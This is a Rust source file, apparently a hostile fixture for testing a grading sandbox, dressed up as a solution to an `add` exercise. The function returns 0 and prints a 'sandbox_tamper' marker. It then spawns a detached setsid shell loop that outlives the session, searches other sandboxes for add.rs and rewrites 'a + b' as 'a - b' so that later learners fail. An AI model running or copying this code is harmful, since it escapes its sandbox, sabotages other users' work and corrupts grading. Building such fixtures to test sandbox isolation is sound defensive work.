// A process that outlives this learner and, for a while, rewrites the `add` solution in every
// other sandbox it can find, so that learners graded later fail.
fn add(a: i32, b: i32) -> i32 {
    let _ = std::io::Write::write_all(&mut std::io::stdout(), b"HOSTILE-RAN:sandbox_tamper\n");
    let script = r#"
        i=0
        while [ $i -lt 600 ]; do
            for root in "$1" "$2"; do
                find "$root" -path "$root/cohort" -prune -o -path '*exercises/basics/add.rs' -print 2>/dev/null |
                while read -r file; do
                    if grep -q 'a + b' "$file" 2>/dev/null; then
                        sed -i 's/a + b/a - b/' "$file"
                    fi
                done
            done
            i=$((i + 1))
            sleep 0.1
        done
    "#;
    let spawned = std::process::Command::new("setsid")
        .args(["sh", "-c", script, "@MARKER@", "@WORK@", "@COURSE@"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn();
    match spawned {
        Ok(_) => println!("SPAWNED setsid"),
        Err(err) => println!("SPAWN setsid failed: {err}"),
    }
    let _ = (a, b);
    0
}

fn main() {}
